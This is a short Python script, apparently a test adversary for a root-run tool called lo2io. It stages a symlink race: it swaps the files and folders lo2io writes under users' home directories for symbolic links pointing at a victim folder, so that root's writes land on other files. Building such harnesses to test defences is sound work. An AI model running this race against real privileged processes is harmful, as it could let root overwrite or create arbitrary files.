"""A user who owns the directories that root writes into, and would have root write to other files.

    attacker.py HOMES VICTIM [SECONDS]

Run it as the owner of every folder of ``HOMES``. It renames what lo2io makes in ``HOMES/*/T``, and seldom ``T`` itself.
In its place it puts a symbolic link to the folder ``VICTIM``, or a folder of links to files there under all names that
lo2io writes. It goes on until stdin ends, or for so many seconds, and prints how often it exchanged something.
"""

from __future__ import annotations

import contextlib
import itertools
import random
import select
import sys
import time
from pathlib import Path

NAMES = (
    *("spool.json", "spool.json.new", ".reserve", "facts.ring", ".recorder", "dumps.jsonl", ".control"),
    *("cpu-0000.ring", "cpu-0001.ring", "cpu-0000.calls", "cpu-0001.calls"),
    *("traces.otf2", "traces.def", "traces.marker", "0.evt", "0.def", "1.evt", "1.def", "traces", "lo2io", "spool"),
    *("metadata.json", "metadata.json.part", "operations.arrow", "operations.arrow.part", "files.arrow", "page.html"),
)
"""What lo2io writes, or once wrote."""
_PAUSE_S = 0.001
_SELDOM = 0.02
_numbers = itertools.count()


def exchange(entry: Path, victim: Path) -> bool:
    """Put a trap in the place of an entry; whether that could be done."""
    with contextlib.suppress(OSError):
        if entry.is_symlink():
            return False
        # lo2io passes over such a name, as that of a window it dumped once.
        entry.rename(entry.with_name(f"dump-20200101-{next(_numbers) % 1_000_000:06}"))
        if random.random() < 0.5:  # noqa: S311
            entry.symlink_to(victim)
        else:
            entry.mkdir()
            for name in NAMES:
                (entry / name).symlink_to(victim / name)
        return True
    return False


def main() -> None:
    """Until told to end."""
    homes, victim = Path(sys.argv[1]), Path(sys.argv[2])
    bounded = len(sys.argv) > 3
    end = time.monotonic() + (float(sys.argv[3]) if bounded else float("inf"))
    done = 0
    print("ready", flush=True)
    while time.monotonic() < end and (bounded or not select.select([0], [], [], 0)[0]):
        for trace in homes.glob("*/T"):
            entries = [trace] if random.random() < _SELDOM else []  # noqa: S311
            with contextlib.suppress(OSError):
                entries += [entry for entry in trace.iterdir() if not entry.name.startswith("dump-2020")]
            if entries:
                done += exchange(random.choice(entries), victim)  # noqa: S311
        time.sleep(_PAUSE_S)
    print(done, flush=True)


if __name__ == "__main__":
    main()
